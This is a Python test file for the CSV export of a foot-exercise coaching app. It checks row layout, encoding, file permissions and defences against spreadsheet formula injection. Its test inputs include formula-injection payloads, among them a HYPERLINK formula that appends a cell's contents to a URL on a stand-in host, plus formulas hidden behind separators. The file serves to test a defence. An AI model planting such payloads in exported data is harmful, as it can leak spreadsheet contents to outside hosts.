"""The table for spreadsheets."""

import csv
import io
import stat
from dataclasses import replace

import pytest

from footcoach.core.pain import BodySite, Pain, PainMoment
from footcoach.core.record import RecordStatus
from footcoach.storage.history.csv_file import HEADINGS, harmless, write_csv
from tests.storage.history.transfers import make_record, new_history


def table(tmp_path, *records):
    """The rows that a program reads that keeps to RFC 4180."""
    file = tmp_path / "table.csv"
    assert write_csv(new_history(*records), file) == len(records)
    text = file.read_bytes().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


ROUTINE = "back-pain-article"
LEVELS = "heel-raises: seated, resistance-band: hold-5"


def test_csv__one_row_for_each_session_oldest_first(tmp_path):
    pain = (
        Pain(PainMoment.BEFORE, BodySite.FOOT, 2),
        Pain(PainMoment.BEFORE, BodySite.HIP, 5),
        Pain(PainMoment.NEXT_MORNING, BodySite.OVERALL, 0),
    )
    later = make_record(2, days_later=1, pain=(), note="", stop_reason=None, status=RecordStatus.FINISHED)
    later = replace(later, levels={"resistance-band": "hold-5", "heel-raises": "seated"})
    rows = table(tmp_path, later, make_record(1, pain=pain, note="well"))
    assert rows == [
        list(HEADINGS),
        ["2026-11-23", "11:00", ROUTINE, "", "ended early", "0.1", "0.1", "tired", "5", "", "0", "", "well"],
        ["2026-11-24", "11:00", ROUTINE, "", "finished", "0.1", "0.1", "", "", "", "", LEVELS, ""],
    ]


def test_csv__has_the_name_of_the_routine_harmless(tmp_path):
    history = new_history(make_record(1))
    history.name_routines({"back-pain-article": "=1+1"})
    write_csv(history, tmp_path / "table.csv")
    assert "back-pain-article,'=1+1," in (tmp_path / "table.csv").read_text()


def test_csv__without_sessions(tmp_path):
    assert table(tmp_path) == [list(HEADINGS)]


def test_csv__bytes(tmp_path):
    file = tmp_path / "table.csv"
    write_csv(new_history(make_record(1, note='Say "ä",\r\nthen go')), file)
    data = file.read_bytes()
    assert data.startswith(b"\xef\xbb\xbfDay,Start time,")
    assert data.endswith('"Say ""ä"",\r\nthen go"\r\n'.encode())
    assert stat.S_IMODE(file.stat().st_mode) == 0o600


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_csv__nothing_begins_a_formula(tmp_path, begin):
    note = f'{begin}HYPERLINK("http://example.org?"&A1)'
    assert table(tmp_path, make_record(1, note=note))[1][-1] == f"'{note}"


CELLS = {
    "ok;=1+1": "ok;'=1+1",
    "ok,=1+1": "ok,'=1+1",
    "ok\t@SUM(A1)": "ok\t'@SUM(A1)",
    "ok\n=1+1": "ok\n'=1+1",
    "ok\r\n-1;;＝1": "ok\r\n'-1;;'＝1",
    'ok;"=1+1"': 'ok;"\'=1+1"',
    "\t=1+1": "'\t'=1+1",
}


@pytest.mark.parametrize(("note", "cell"), CELLS.items(), ids=repr)
def test_csv__nothing_begins_a_formula_behind_another_separator(tmp_path, note, cell):
    assert table(tmp_path, make_record(1, note=note))[1][-1] == cell


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@pytest.mark.parametrize("note", CELLS, ids=repr)
def test_csv__no_cell_is_a_formula_whatever_separates_them(tmp_path, note, separator):
    file = tmp_path / "table.csv"
    write_csv(new_history(make_record(1, note=note)), file)
    text = file.read_bytes().decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter=separator)
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "＝"))]


@pytest.mark.parametrize("text", ["", "well", "1 - 2 = -1", "'quoted", " =1", "well; a-b, c=d", "left;\nright: 2+2"])
def test_harmless__other_text_stays_as_it_is(text):
    assert harmless(text) == text
